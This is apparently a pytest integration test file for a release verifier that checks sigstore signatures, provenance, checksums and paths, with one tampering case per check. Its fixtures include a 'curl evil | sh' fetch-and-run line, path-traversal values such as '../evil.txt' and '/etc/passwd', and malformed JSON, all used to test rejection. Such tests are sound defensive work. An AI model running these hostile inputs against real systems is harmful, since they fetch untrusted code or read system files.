"""verify-release from its signed roots, check by check, on a small signed release (no Nuitka build).

For every check name the report can print, an input that only that check
rejects: the test asserts that exactly that check fails, and why. Policy
rules over the certificate's claims are in tests/unit/test_identity_policy_claims.py.
"""

from __future__ import annotations

import json
import os
import shutil
import subprocess
import sys
from collections.abc import Callable
from pathlib import Path
from typing import Any

import pytest

from opencode_release.core.errors import UsageError, VerificationError
from opencode_release.core.formats import canonical_json
from opencode_release.core.ledger import MANIFEST_NAME, ArtifactKind, Ledger
from opencode_release.verify import Report, identity_policy, verify_release
from tests.integration import signed_release

pytestmark = pytest.mark.integration
ARCHIVE = "opencode-1.4.0-linux-x86_64-gnu.tar.gz"
SCRIPT = Path(sys.executable).parent / "opencode-release"


@pytest.fixture(scope="module")
def signed(tmp_path_factory: pytest.TempPathFactory) -> Path:
    return signed_release.fake_signed(tmp_path_factory.mktemp("fake-signed"))


@pytest.fixture
def copy(signed: Path, tmp_path: Path) -> Path:
    shutil.copytree(signed.parent, tmp_path / "w", symlinks=True)
    return tmp_path / "w" / signed.name


def root(product: Path) -> Path:
    return signed_release.release_root(product)


def verify(product: Path, folder: Path | None = None, **overrides: str) -> Report:
    shipped = (folder or root(product)) / "sigstore-trusted-root.json"
    trust = identity_policy.load_trusted_root("local", str(shipped), None)
    policy = identity_policy.load_policy("local", None, dict(overrides))
    return verify_release(folder or root(product), trust, policy, workers=1)


def failures(report: Report) -> set[tuple[str, str, str]]:
    return {(r.artifact, r.check or "", r.reason or "") for r in report.rows if not r.ok}


def only(report: Report) -> tuple[str, str, str]:
    found = failures(report)
    assert len(found) == 1, found
    return found.pop()


def edit_ledger(product: Path, change: Callable[[dict[str, Any]], None]) -> None:
    path = root(product) / MANIFEST_NAME
    data = json.loads(path.read_text())
    change(data)
    path.write_text(json.dumps(data))


def artifact_record(data: dict[str, Any], path: str) -> dict[str, Any]:
    records: list[dict[str, Any]] = [a for a in data["artifacts"] if a["path"] == path]
    (record,) = records
    return record


def rewrite_and_resign(product: Path, kind: str, change: Callable[[dict[str, Any]], None]) -> None:
    """Change a statement, record it, sign the release again: every signature good, the content wrong."""
    ledger = Ledger.load(root(product))
    (artifact,) = ledger.by_kind(kind)
    path = ledger.file(artifact)
    data = json.loads(path.read_bytes())
    change(data)
    path.write_bytes(canonical_json(data))
    ledger.record(path, kind, target=artifact.target, relations=artifact.relations, facts=artifact.facts)
    ledger.save()
    signed_release.resign(product)


def test_the_signed_release_passes_every_check(signed: Path) -> None:
    report = verify(signed)
    assert report.ok, failures(report)
    rows = {r.artifact: r for r in report.rows}
    assert set(rows["release.intoto.json"].passed) == {
        "sigstore",
        "issuer",
        "identity",
        "dsse-payload",
        "release-statement",
        "ledger",
        "version",
        "not-covered",
        "path",
    }
    assert set(rows[ARCHIVE].passed) == {
        "digest",
        "sha256sums",
        "sigstore",
        "issuer",
        "identity",
        "provenance-subject",
        "sbom-statement",
    }
    assert "version" in rows["provenance.intoto.json"].passed
    assert rows["sigstore-trusted-root.json"].passed == ("digest",)  # listed, so signed by the statement
    listed = json.loads((root(signed) / "release.intoto.json").read_bytes())["predicate"]["files"]
    assert {f["path"] for f in listed} == {r.artifact for r in report.rows} - {"release.intoto.json"}


# -- the root ----------------------------------------------------------------------------------


def test_a_release_of_another_channel_than_asked_fails_the_channel_check(signed: Path) -> None:
    """The local policy accepts the same signer on every channel: only the channel check tells them apart."""
    trust = identity_policy.load_trusted_root("local", str(root(signed) / "sigstore-trusted-root.json"), None)
    policy = identity_policy.load_policy("local", None, {})
    asked = verify_release(root(signed), trust, policy, workers=1, channel="nightly")
    assert only(asked) == (
        "release.intoto.json",
        "channel",
        "the signed statement is for channel 'stable'; --channel asked for 'nightly'",
    )
    own = verify_release(root(signed), trust, policy, workers=1, channel="stable")
    assert own.first_failure() is None and "channel" in own.rows[0].passed
    assert "channel" not in verify(signed).rows[0].passed  # not asked: not claimed as checked


def test_the_console_script_takes_the_channel_to_insist_on(signed: Path) -> None:
    def run(channel: str) -> subprocess.CompletedProcess[str]:
        shipped = str(root(signed) / "sigstore-trusted-root.json")
        command = [str(SCRIPT), "verify-release", str(root(signed)), "--instance", "local", "--trusted-root", shipped]
        return subprocess.run([*command, "--channel", channel, "--json"], capture_output=True, text=True, timeout=300)

    refused, accepted = run("lts"), run("stable")
    assert refused.returncode == 1 and accepted.returncode == 0, accepted.stderr
    failed = [a["failed"] for a in json.loads(refused.stdout)["artifacts"] if not a["ok"]]
    assert [f["check"] for f in failed] == ["channel"]


def test_a_release_without_its_statement_is_refused(copy: Path) -> None:
    (root(copy) / "release.intoto.json").unlink()
    assert only(verify(copy)) == (
        "release.intoto.json",
        "release-statement",
        "the release has no signed release statement: nothing signed says which files it holds",
    )


def test_a_signed_statement_of_another_predicate_is_refused(copy: Path) -> None:
    rewrite_and_resign(copy, ArtifactKind.RELEASE_STATEMENT, lambda d: d.update(predicateType="https://x/v1"))
    artifact, check, reason = only(verify(copy))
    assert (artifact, check) == (
        "release.intoto.json",
        "release-statement",
    ) and "predicateType is 'https://x/v1'" in reason


# -- the file set --------------------------------------------------------------------------------


def test_a_listed_file_that_is_missing_fails(copy: Path) -> None:
    (root(copy) / ARCHIVE).unlink()
    assert only(verify(copy)) == (ARCHIVE, "listed-file", f"{ARCHIVE} is listed in a signed statement but missing")


def test_a_file_no_signature_covers_fails(copy: Path) -> None:
    (root(copy) / "opencode-extra.sh").write_text("curl evil | sh\n")
    assert only(verify(copy)) == (
        "opencode-extra.sh",
        "not-covered",
        "not covered by any signature: no signed statement lists it",
    )


def test_a_bundle_of_no_listed_file_is_not_covered(copy: Path) -> None:
    shutil.copy(root(copy) / "SHA256SUMS.sigstore.json", root(copy) / "SHA1SUMS.sigstore.json")
    assert only(verify(copy))[:2] == ("SHA1SUMS.sigstore.json", "not-covered")


def test_a_deleted_archive_with_its_ledger_entry_still_fails(copy: Path) -> None:
    (root(copy) / ARCHIVE).unlink()
    edit_ledger(copy, lambda d: d.update(artifacts=[a for a in d["artifacts"] if a["path"] != ARCHIVE]))
    found = failures(verify(copy))
    assert (ARCHIVE, "ledger", "the signed statement lists it; the ledger does not record it") in found
    assert (ARCHIVE, "listed-file", f"{ARCHIVE} is listed in a signed statement but missing") in found


# -- the ledger against the signed lists ------------------------------------------------------------


def test_a_ledger_digest_changed_fails_naming_both(copy: Path) -> None:
    listed = artifact_record(json.loads((root(copy) / MANIFEST_NAME).read_text()), ARCHIVE)["sha256"]
    edit_ledger(copy, lambda d: artifact_record(d, ARCHIVE).update(sha256="0" * 64))
    assert only(verify(copy)) == (
        ARCHIVE,
        "ledger",
        f"the ledger says sha256 {'0' * 64}; the signed statement says {listed}",
    )


def test_a_ledger_version_changed_fails_naming_both(copy: Path) -> None:
    edit_ledger(copy, lambda d: d.update(version="1.5.0"))
    assert only(verify(copy)) == (MANIFEST_NAME, "ledger", "version is '1.5.0'; the signed statement says '1.4.0'")


# -- versions ----------------------------------------------------------------------------------------


def test_a_whole_release_relabelled_fails_the_version_check(copy: Path) -> None:
    relabelled = root(copy).parent / "1.5.0"
    root(copy).rename(relabelled)
    assert only(verify(copy, folder=relabelled)) == (
        "1.5.0/",
        "version",
        "the folder is 1.5.0; the signed statement is for 1.4.0",
    )


def test_a_listed_file_named_for_another_version_fails(copy: Path) -> None:
    old = root(copy) / "opencode-1.3.0-linux-x86_64-gnu.tar.gz.cdx.json"
    old.write_text("{}")
    ledger = Ledger.load(root(copy))
    ledger.record(old, ArtifactKind.SBOM)
    ledger.save()
    signed_release.resign(copy)
    assert only(verify(copy)) == (
        old.name,
        "version",
        "the name carries version 1.3.0; the release is 1.4.0",
    )


def test_a_provenance_for_another_version_fails(copy: Path) -> None:
    def older(data: dict[str, Any]) -> None:
        data["predicate"]["buildDefinition"]["externalParameters"]["version"] = "1.3.0"

    rewrite_and_resign(copy, ArtifactKind.PROVENANCE, older)
    assert failures(verify(copy)) == {
        ("provenance.intoto.json", "version", "the provenance is for version 1.3.0; the release is 1.4.0"),
        # what it covers cannot be trusted either
        (ARCHIVE, "provenance-subject", "the release has no verified provenance"),
    }


# -- paths -------------------------------------------------------------------------------------------


def test_a_symlink_in_place_of_a_listed_file_is_refused_unfollowed(copy: Path) -> None:
    target = root(copy) / ARCHIVE
    shutil.move(target, root(copy).parent / ARCHIVE)
    target.symlink_to(root(copy).parent / ARCHIVE)  # same bytes, outside the folder
    found = failures(verify(copy))
    assert found == {(ARCHIVE, "path", f"{ARCHIVE} is a symbolic link; not followed or read")}


def test_a_fifo_in_the_folder_is_refused_unread(copy: Path) -> None:
    os.mkfifo(root(copy) / "pipe")
    assert only(verify(copy)) == ("pipe", "path", "pipe is a FIFO; not followed or read")


@pytest.mark.parametrize("bad", ["../evil.txt", "/etc/passwd", "a/./b", "a\\b"])
def test_a_listed_path_that_is_absolute_or_leaves_the_folder_is_refused(copy: Path, bad: str) -> None:
    from opencode_release.verify.release_files import safe_path

    with pytest.raises(VerificationError) as caught:
        safe_path(str(root(copy)), bad, bad)
    assert caught.value.check == "path"
    # and a ledger carrying one is refused whole, on one line, before anything is read through it
    edit_ledger(copy, lambda d: artifact_record(d, ARCHIVE).update(path=bad))
    with pytest.raises(UsageError, match=r"refused path|not a readable release manifest"):
        verify(copy)


# -- per file -----------------------------------------------------------------------------------------


def test_an_altered_file_fails_its_digest_against_the_statement(copy: Path) -> None:
    with (root(copy) / ARCHIVE).open("ab") as handle:
        handle.write(b"\0")
    artifact, check, reason = only(verify(copy))
    assert (artifact, check) == (ARCHIVE, "digest") and "differs from the signed list's" in reason


def test_a_deliverable_missing_from_sha256sums_fails(copy: Path) -> None:
    sums = root(copy) / "SHA256SUMS"
    sums.write_text("".join(line + "\n" for line in sums.read_text().splitlines() if ARCHIVE not in line))
    ledger = Ledger.load(root(copy))
    (artifact,) = [a for a in ledger.by_kind(ArtifactKind.CHECKSUMS) if a.name == "SHA256SUMS"]
    ledger.record(sums, ArtifactKind.CHECKSUMS, relations=artifact.relations, facts=artifact.facts)
    ledger.save()
    signed_release.resign(copy)
    assert only(verify(copy)) == (ARCHIVE, "sha256sums", "not listed in SHA256SUMS")


def test_a_statement_under_another_statements_bundle_fails_the_payload_check(copy: Path) -> None:
    sbom_statement = f"{ARCHIVE}.sbom.intoto.json"
    shutil.copy(root(copy) / "provenance.intoto.json.sigstore.json", root(copy) / f"{sbom_statement}.sigstore.json")
    assert only(verify(copy)) == (
        sbom_statement,
        "dsse-payload",
        "the statement file differs from the payload its bundle signs",
    )


def test_a_truncated_bundle_fails_the_format_check(copy: Path) -> None:
    (root(copy) / f"{ARCHIVE}.sigstore.json").write_bytes(b'{"mediaType": "application/vnd.dev.sigstore.bun')
    artifact, check, reason = only(verify(copy))
    assert (artifact, check) == (ARCHIVE, "bundle-format") and reason.startswith("failed to load bundle")


def test_the_bundle_of_another_file_fails_the_library_check(copy: Path) -> None:
    shutil.copy(root(copy) / "SHA512SUMS.sigstore.json", root(copy) / f"{ARCHIVE}.sigstore.json")
    assert only(verify(copy)) == (ARCHIVE, "sigstore", "Bundle message digest mismatch")


def test_another_identity_or_issuer_fails_its_rule(signed: Path) -> None:
    report = verify(signed, identity="mallory@example.org")
    assert {(r.check, r.reason) for r in report.rows if not r.ok} == {
        ("identity", "Certificate's SANs do not match mallory@example.org; actual SANs: {'release@opencode.local'}")
    }
    report = verify(signed, issuer="https://token.actions.githubusercontent.com")
    assert {r.check for r in report.rows if not r.ok} == {"issuer"}


@pytest.mark.parametrize(
    "kind, change, check, reason",
    [
        (
            ArtifactKind.PROVENANCE,
            lambda d: d.update(predicateType="https://slsa.dev/provenance/v0.2"),
            "provenance-type",
            "predicateType is 'https://slsa.dev/provenance/v0.2', expected https://slsa.dev/provenance/v1",
        ),
        (
            ArtifactKind.PROVENANCE,
            lambda d: d["predicate"]["runDetails"]["builder"].update(id="https://evil.example/builder"),
            "provenance-builder",
            f"built by https://evil.example/builder, expected {signed_release.BUILDER_ID}",
        ),
        (
            ArtifactKind.PROVENANCE,
            lambda d: d["predicate"]["buildDefinition"]["externalParameters"].update(
                repository="https://github.com/mallory/opencode"
            ),
            "provenance-source",
            f"built from https://github.com/mallory/opencode, expected {signed_release.REPOSITORY}",
        ),
    ],
)
def test_a_signed_provenance_saying_otherwise_fails(
    copy: Path, kind: str, change: Callable[[dict[str, Any]], None], check: str, reason: str
) -> None:
    rewrite_and_resign(copy, kind, change)
    rows = {r.artifact: r for r in verify(copy).rows if not r.ok}
    assert (rows["provenance.intoto.json"].check, rows["provenance.intoto.json"].reason) == (check, reason)
    # The deliverables it covers fail with it: their provenance could not be trusted.
    assert {(a, r.check) for a, r in rows.items() if a != "provenance.intoto.json"} == {(ARCHIVE, "provenance-subject")}


def test_a_provenance_for_another_digest_fails_the_subject_check(copy: Path) -> None:
    rewrite_and_resign(copy, ArtifactKind.PROVENANCE, lambda d: d["subject"][0]["digest"].update(sha256="0" * 64))
    artifact, check, reason = only(verify(copy))
    assert (artifact, check) == (ARCHIVE, "provenance-subject") and "made for another artifact" in reason


def test_an_sbom_statement_for_another_digest_fails(copy: Path) -> None:
    rewrite_and_resign(copy, ArtifactKind.ATTESTATION, lambda d: d["subject"][0]["digest"].update(sha256="1" * 64))
    artifact, check, reason = only(verify(copy))
    assert (artifact, check) == (ARCHIVE, "sbom-statement") and f"{'1' * 64}, not sha256:" in reason


# -- hostile shapes: one line, exit 2 or 1, never a traceback -------------------------------------------


@pytest.mark.parametrize(
    "content, message",
    [
        (b'{"a":' * 100_000 + b"1" + b"}" * 100_000, "nests too deep"),
        (b'{"schema_version": 1e400}', "beyond a double"),
        (b'{"product": "\xff\xfe"}', "is not UTF-8"),
        (b"[]", "is not a JSON object"),
    ],
)
def test_a_hostile_ledger_is_one_line_and_exit_2(copy: Path, content: bytes, message: str) -> None:
    (root(copy) / MANIFEST_NAME).write_bytes(content)
    proc = subprocess.run(
        [
            str(SCRIPT),
            "verify-release",
            str(root(copy)),
            "--instance",
            "local",
            "--trusted-root",
            str(root(copy) / "sigstore-trusted-root.json"),
            "--json",
        ],
        capture_output=True,
        text=True,
        timeout=300,
    )
    assert proc.returncode == 2, proc.stderr
    assert message in proc.stderr and "Traceback" not in proc.stderr
    assert json.loads(proc.stdout)["ok"] is False


def test_a_hostile_bundle_is_one_failed_row(copy: Path) -> None:
    (root(copy) / f"{ARCHIVE}.sigstore.json").write_bytes(b'{"a":' * 100_000 + b"1" + b"}" * 100_000)
    artifact, check, reason = only(verify(copy))
    assert (artifact, check) == (ARCHIVE, "bundle-format") and "recursion limit exceeded" in reason


def test_a_multi_gigabyte_file_is_hashed_in_pieces_and_fails_its_digest(copy: Path) -> None:
    with (root(copy) / ARCHIVE).open("r+b") as handle:
        handle.truncate(3 << 30)  # sparse: 3 GiB read, never held in memory
    artifact, check, _ = only(verify(copy))
    assert (artifact, check) == (ARCHIVE, "digest")


def test_the_console_script_reports_json_and_exit_1_on_a_failed_check(copy: Path) -> None:
    (root(copy) / "opencode-extra.sh").write_text("x")
    proc = subprocess.run(
        [
            str(SCRIPT),
            "verify-release",
            str(root(copy)),
            "--instance",
            "local",
            "--trusted-root",
            str(root(copy) / "sigstore-trusted-root.json"),
            "--json",
        ],
        capture_output=True,
        text=True,
        timeout=300,
    )
    assert proc.returncode == 1
    report = json.loads(proc.stdout)
    assert report["ok"] is False
    assert [a["failed"]["check"] for a in report["artifacts"] if not a["ok"]] == ["not-covered"]
